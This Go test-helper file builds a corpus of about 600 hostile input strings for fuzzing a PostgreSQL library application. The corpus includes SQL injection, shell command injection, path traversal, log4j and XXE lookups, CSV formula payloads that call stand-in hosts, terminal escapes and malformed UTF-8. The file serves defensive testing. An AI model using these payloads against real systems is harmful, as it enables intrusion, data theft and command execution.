package pgtest

import (
	"fmt"
	"slices"
	"strings"
	"sync"
)

// Megabyte is the size of the longest of the hostile strings.
const Megabyte = 1 << 20

// Hostile returns some 600 distinct strings that somebody could type, scan, paste or import to break what handles text: SQL,
// JSON, spreadsheets, terminals, shells, file systems. Some are not UTF-8, and two are a megabyte long.
func Hostile() []string { return slices.Clone(hostile()) }

var hostile = sync.OnceValue(func() []string {
	all := []string{"", " ", "x", "id:1", "90000036", "today", "2026-01-31"}
	for _, kind := range [][]string{
		quotes, statements, literals, places, options, formats, shell, terminals, letters,
		eachByte(), hidden(), broken(), formulas(), nested(), long(),
	} {
		all = append(all, kind...)
	}
	seen := map[string]bool{}
	return slices.DeleteFunc(all, func(s string) bool {
		again := seen[s]
		seen[s] = true
		return again
	})
})

// quotes end a string, an identifier, a dollar quote or a comment, or begin one that never ends.
var quotes = []string{
	`'`, `''`, `'''`, `"`, `""`, "`", `\'`, `\\'`, `\"`, `\`, `\\`, `'\''`, `E'\''`, `e'\x27'`, `U&'\0027'`, `U&"d\0061t\+000061"`,
	`$$`, `$a$`, `$$x$$`, `$body$`, `$1`, `$2`, `$99999`, `:x`, `:'x'`, `?`, `@x`, `%s`, `%I`, `%L`, `%1$s`, `%%`, `%`, `{}`, `{`, `}`, `[`,
	`]`, `(`, `)`,
	`--`, `-- `, `x--`, `/*`, `*/`, `/* x`, `/*/*/`, `#`, `;`, `;;`, `';`, `");`, `x;y`, `\0`, `\x00`, `\u0000`, `\u0027`, `\047`, `&#39;`,
	`&apos;`, `%27`, `%00`,
	`B'01'`, `X'1F'`, `N'x'`, `'||'`, `'+'`, `' '`, `'x' 'y'`, "'\n'", `\copy`, `\!`, `\q`, `\gexec`, `\.`, "x\n\\.\nx", `ʼ`, `’`, `‘`, `＇`,
	`＂`, `′`, `\ud800`, `\ud83d\ude00`,
}

// statements are what follows when a string was ended.
var statements = []string{
	`' OR '1'='1`, `' OR 1=1 --`, `" OR ""="`, `1 OR 1=1`, `') OR ('1'='1`, `x' AND 1=(SELECT 1/0) --`, `'; DROP TABLE lms.patron; --`,
	`'; DROP SCHEMA desk CASCADE; --`, `'); DELETE FROM patronctl.access; --`, `' UNION SELECT rolpassword FROM pg_authid --`,
	`' UNION ALL SELECT NULL, NULL --`, `'; SELECT pg_sleep(100); --`, `'||pg_sleep(100)||'`, `'; COPY lms.identity TO '/tmp/x'; --`,
	`'; COPY (SELECT '') TO PROGRAM 'id'; --`, `'; COMMIT; --`, `'; ROLLBACK; --`, `'; SET ROLE patronctl_owner; --`,
	`'; GRANT patronctl_admin TO "clerk.cam"; --`, `"; ALTER ROLE "clerk.cam" SUPERUSER; --`, `x" SUPERUSER PASSWORD 'y`,
	`x' VALID UNTIL 'infinity`,
	`'; DO $$ BEGIN RAISE EXCEPTION 'x'; END $$; --`, `'; LISTEN x; --`, `'; LOCK lms.patron; --`, `'; VACUUM; --`, `'; DISCARD ALL; --`,
	`'; SET search_path = pg_temp; --`, `(SELECT 1)`, `SELECT`, `NULL`, `null`, `DEFAULT`, `CURRENT_USER`, `session_user`, `true`, `false`,
	`on`, `off`,
	`now()`, `version()`, `pg_read_file('/etc/passwd')`, `lo_import('/etc/passwd')`, `current_setting('x')`, `postgres`, `public`,
	`pg_catalog`, `pg_temp`,
	`pg_monitor`, `pg_read_all_data`, `patronctl_owner`, `patronctl_roles`, `patronctl_admin`, `lms.patron`, `desk.open_access`,
	`"lms"."patron"`, `library`,
	`PUBLIC`, `none`, `all`, `*`, `lms.*`, `_`, `__`, `_%`, `%_%`, `%a%`, `\%`, `.*`, `^`, `$`, `a{1,99999}`, `(a+)+$`, `[[:alpha:]]`,
	`(?=x)`, `\y`, `\1`, `a|b`, `!`, `&`, `a & b`, `a:*`, `<->`,
}

// literals are the forms of other types: numbers, days, arrays, rows, JSON.
var literals = []string{
	`0`, `-0`, `-1`, `+1`, `1.`, `.5`, `0x1F`, `0b1`, `0o7`, `1_000`, `1,000.00`, `1e3`, `1e999`, `-1e999`, `NaN`, `Infinity`, `-Infinity`,
	`infinity`, `2147483647`, `2147483648`,
	`-2147483649`, `9223372036854775807`, `9223372036854775808`, `99999999999999999999`, `0.000000001`, `1;2`, `id:0`, `id:-1`, `id:1 OR 1=1`,
	`id:99999999999999999999`, `ID:1`, `id:`, `id:１`,
	`2026-02-30`, `2026-13-01`, `0000-00-00`, `0001-01-01`, `9999-12-31`, `10000-01-01`, `-infinity`, `epoch`, `now`, `tomorrow`, `yesterday`,
	`31.1.2026`, `01/31/2026`, `20260131`, `2026-1-1`, `2026-W05`,
	`2026-01-31T25:00:00Z`, `2026-01-31T09:30:00+99:99`, `2026-01-31 09:30:00 BC`, `2026-01-31T23:59:60Z`, `January 8, 1999`, `J2451187`,
	`2026-01-31 America/New_York`, `allballs`,
	`1 day`, `-1 day`, `1 year 2 mons`, `P1Y`, `P1Y2M3DT4H`, `999999999 years`, `178000000 years`, `1.5 months`, `00:00:01`, `18 months`,
	`3 years`, `1 month ago`, `@ 1 hour`, `1e9 days`, `365 DAYS`,
	`{a,b}`, `{"a"}`, `{NULL}`, `{{1},{2}}`, `[0:1]={1,2}`, `{1,`, `ARRAY['x']`, `(1,2)`, `[1,2)`, `(,)`, `ROW(1)`, `{"a":1}`,
	`{"a":"b\u0000"}`, `{"__proto__":{}}`, `[]`, `[1`, `"x"`, `{"$ref":"#"}`, `$.**`, `'{}'::jsonb`,
	`00000000-0000-0000-0000-000000000000`, `{a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11}`, `\x41`, `\xZZ`, `127.0.0.1`, `::1`, `1/0`, `TRUE`, `T`,
	`yes`, `Ja`, `a@b`, `a@b.c`, `"a b"@c.d`, `@`, `@@`, `+421 900 123 456`, `+`, `-------`, `((((((((`, `/////////`,
}

// places are names of files, of the network and of databases.
var places = []string{
	`/`, `.`, `..`, `../..`, `../../../../etc/passwd`, `/etc/passwd`, `/dev/null`, `/dev/stdin`, `/dev/full`, `/proc/self/mem`, `~`, `~root`,
	`a/b`, `a//b`, `a/../b`, `./-x`, `C:\x`, `\\host\share`, `C:`, `CON`, `NUL`, `aux.txt`,
	`file:///etc/passwd`, `http://localhost/`, `postgres://postgres@localhost/x`, `host=localhost user=postgres`,
	`dbname=x options=-csearch_path=x`, `service=x`, `x'y=z`, `a.`, `a `, `.hidden`, `x:y`, `x|y`, `x.csv`, `x.zip/../y`,
	`log4j${jndi:ldap://x}`,
}

// options look like a part of the command line.
var options = []string{
	`-`, `---`, `-x`, `-o`, `-ojson`, `-h`, `--help`, `--version`, `--yes`, `--dry-run`, `--no-such`, `--output=json`, `--dsn=x`, `--=`,
	`--=x`, `-=`, `-1`, `-é`, `--é`, `- x`, `-\n`, `--timeout=-1s`, `--columns=`, `@file`, `+x`, `/?`, `__complete`, `help`, `completion`,
}

// formats are what formatting, templates and mark-up would act on.
var formats = []string{
	`%d`, `%n`, `%n%n%n%n`, `%s%s%s%s%s%s%s%s`, `%x%x`, `%!s(MISSING)`, `%999999d`, `%*d`, `%v`, `%+v`, `%#v`, `%[1]s`, `%[999]d`, `%%s`,
	`%w`, `{{.}}`, `{{7*7}}`, `{{range .}}`, `{{`, `}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{%x%}`, `{0}`, `{x}`, `[[x]]`, `$(x)`, `$x`,
	`${x}`,
	`<script>alert(1)</script>`, `<b>`, `</table>`, `<!--`, `-->`, `<![CDATA[`, `]]>`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `&lt;`, `&y;`, `<?xml?>`, `&#x1b;`, `| x |`, `|`, `\|`, `***`, `# x`, `> x`,
	"```", `[x](javascript:alert(1))`, `![x](y)`, `---|---`, `<br>`,
}

// shell is what a shell would act on.
var shell = []string{
	`$(id)`, "`id`", `; id`, `| id`, `|| id`, `& id`, `&& id`, `> x`, `>> x`, `< x`, `<<x`, `2>&1`, `!!`, `!x`, `*`, `?*`, `[a-z]`,
	`{a,b}{c,d}`, `$HOME`, `$'\x41'`, `"$(id)"`, `'$(id)'`, `a\ b`, "a\nid\n", `() { :;}; id`, `%PATH%`, `^x^y`, `$IFS`, `;#`, `"&calc&"`,
}

// terminals are sequences that a terminal would act on.
var terminals = []string{
	"\x1b", "\x1b[", "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b[1A\x1b[2K", "\x1b[999;999H", "\x1b[6n", "\x1b[c", "\x1b[?1049h", "\x1b[?25l",
	"\x1b[8m", "\x1b[20t", "\x1b[21t", "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]52;c;aWQ=\x07", "\x1b]8;;http://x\x1b\\x\x1b]8;;\x1b\\",
	"\x1b]4;1;?\x07", "\x1b]50;x\x07", "\x1b]777;notify;x;y\x07", "\x1b]1337;File=:eA==\x07", "\x1bP$q\"p\x1b\\", "\x1b_x\x1b\\",
	"\x1b^x\x1b\\", "\x1bX", "\x1bc", "\x1b#8", "\x1b(0", "\x1b%G", "\x1b[?2004h", "\x1b[200~id\x1b[201~", "\x1b[5i", "\x1bZ",
	"\u009b31m", "\u009d0;x\u009c", "\u0090x\u009c", "\u009b2J", "\x9b2J", "\x9d0;x\x07", "x\rok", "x\r\ny", "x\ny", "x\ty", "x\by\b", "x\vy",
	"x\fy", "\a", "ok\x1b[1G", "a\x00b", "\x00", "\x7f", "\x18", "\x1a", "\x0e", "\x0f",
}

// letters are text of people all over the world, and text that looks like other text.
var letters = []string{
	"Císařová", "CÍSAŘOVÁ", "Cisarova", "Ng", "Li", "ß", "ẞ", "ŉ", "ı", "İ", "ǆ", "ﬁ", "ſ", "K", "Å", "Ω", "ς", "Ἀθῆναι", "Łukasz", "Đorđe",
	"Þór", "æ", "Œ", "ø", "Ţ", "Ț", "O'Brien", "O’Brien", "D'Angelo-Smith", "van der Berg", "Mc Donald", "Xiàtiān", "李小龍", "山田太郎", "김철수",
	"Нина", "Αλέξης", "שרה", "محمد", "अमित", "ไทย", "ქართული", "Հայ",
	"e\u0301", "\u0301", "a\u0301\u0302\u0303\u0304\u0305", "Z͑ͫ̓ͪ̂ͫ̽a̴l̵g̶o̷", "\u1112\u1161\u11ab", "각", "ｎｏｖａｋ", "Ｎｏｖáｋ", "Νοvak", "nоvak",
	"pаypаl", "𝓃𝑜𝓋𝒶𝓀", "ⓝⓞⓥⓐⓚ", "①②③", "１２３", "١٢٣", "१२३", "𝟏𝟐𝟑", "²", "½", "Ⅳ", "９００００００３６", "id：１", "−1", "‐", "–x", "——x", "⁄", "∕", "；",
	"％", "＼", "＿", "，", "．", "｜", "＜", "＞",
	"😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇸🇰", "👍🏽", "1️⃣", "☃", "\U0001F600\U0001F600", "\U00020000", "\U0010FFFD", "\ue000", "\ufdd0", "\uffff",
	"\ufffd", "\u0378", "ﷺ", "𒐫", "꧅", "Ⓐ", "ℵ",
}

// formulas begin as spreadsheets' do, after everything that may stand before.
func formulas() (all []string) {
	for _, begin := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", "==", "=-"} {
		all = append(all, begin+"1+1", begin+`cmd|' /C calc'!A0`, begin+`HYPERLINK("http://x?"&A1,"x")`)
	}
	for _, before := range []string{
		" ", "  ", "\t", "\r", "\n", "\r\n", "'", "''", `"`, "\u00a0", "\u200b", "\ufeff", "\u3000", "\v", "\x00",
		";", ",", "x;", "x,", "x\t", "x\n", "x\r", "x\";", "\u2028", "\u202e",
	} {
		all = append(all, before+"=1+1", before+"@SUM(1)")
	}
	return append(all, "=", "+", "@", "=\n", "-3.50", "-3,50", "-", "+421", "1-1", "a=b", "DDE(\"cmd\";\"x\";\"y\")",
		"=WEBSERVICE(\"http://x\")", "=IMPORTXML(\"http://x\",\"//a\")", "=1+1;=2+2", "sep=;", "ID", "\ufeffID")
}

// eachByte is every byte alone and, where it controls something, inside a word: the C0 and C1 characters, DEL, and bytes that
// are no UTF-8.
func eachByte() (all []string) {
	for b := range 256 {
		if b < ' ' || b >= 0x7f {
			all = append(all, string([]byte{byte(b)}))
		}
		if b < ' ' || b == 0x7f {
			all = append(all, "a"+string(rune(b))+"b")
		}
		if b >= 0x80 && b < 0xa0 {
			all = append(all, "a"+string(rune(b))+"b")
		}
	}
	return all
}

// hidden are characters without a shape, and those that turn text around.
func hidden() (all []string) {
	for _, r := range "\u00a0\u00ad\u034f\u061c\u115f\u1160\u1680\u17b4\u180b\u180e\u2000\u2007\u200b\u200c\u200d\u200e\u200f\u2028" +
		"\u2029\u202a\u202b\u202c\u202d\u202e\u202f\u205f\u2060\u2061\u2064\u2066\u2067\u2068\u2069\u206a\u206f\u2800\u3000\u3164\ufe00" +
		"\ufe0f\ufeff\uffa0\ufff9\ufffb\U0001d173\U000e0001\U000e0041\U000e007f\U000e0100" {
		all = append(all, "a"+string(r)+"b")
	}
	return append(all, "\u202egpj.exe", "\u2066x\u2069\u202e", "admin\u200b", "\ufeffx", "x\u200d", "\U000e0061\U000e0062")
}

// broken are not UTF-8: cut off, overlong, surrogates, beyond the last character, another encoding.
func broken() []string {
	return []string{
		"\xc3", "a\xc3", "\xc3(", "\xe2\x82", "\xf0\x9f\x98", "\xc0\x80", "\xc0\xa7", "\xe0\x80\xa7", "\xf0\x80\x80\xa7", "\xc1\xbf",
		"\xe0\x9f\xbf", "\xed\xa0\x80", "\xed\xa0\xbd\xed\xb8\x80", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80",
		"\xfe\xff\x00a", "\xff\xfea\x00", "N\xf3vak", "\xbf' OR 1=1 --", "\xbf\x5c' OR 1=1", "\x81\x5c'", "a\xff'b", "x\xc2'", "\xe5' ; --",
		"\xfc\x80\x80\x80\x80\x80", "ok\x80",
	}
}

// nested asks for more than a stack may hold.
func nested() []string {
	return []string{
		strings.Repeat("[", 10000), strings.Repeat(`{"a":`, 10000), strings.Repeat("(", 10000), strings.Repeat("/*", 10000),
		strings.Repeat("'", 10001), strings.Repeat("\\", 10001),
		strings.Repeat("$a$", 3000), strings.Repeat("%s", 5000), strings.Repeat("<a>", 3000), strings.Repeat("\u0301", 5000),
		strings.Repeat("x ", 5000), strings.Repeat("x,", 5000), strings.Repeat("x\n", 5000), strings.Repeat("-", 10000),
		strings.Repeat("\x1b[", 5000),
	}
}

// long are as long as a name of the server, a path, an index entry or a page may be, and a little longer.
func long() (all []string) {
	for _, n := range []int{40, 41, 63, 64, 100, 101, 200, 201, 255, 256, 500, 501, 1000, 2704, 4096, 8192, 65536} {
		all = append(all, strings.Repeat("n", n))
	}
	for _, n := range []int{32, 64, 501} {
		all = append(all, strings.Repeat("é", n), strings.Repeat("9", n), strings.Repeat("'", n))
	}
	for n := range 10 {
		all = append(all, fmt.Sprintf("%0*d'", 10*n+7, n))
	}
	return append(all, strings.Repeat("x'", Megabyte/2), strings.Repeat("novak ", Megabyte/6))
}
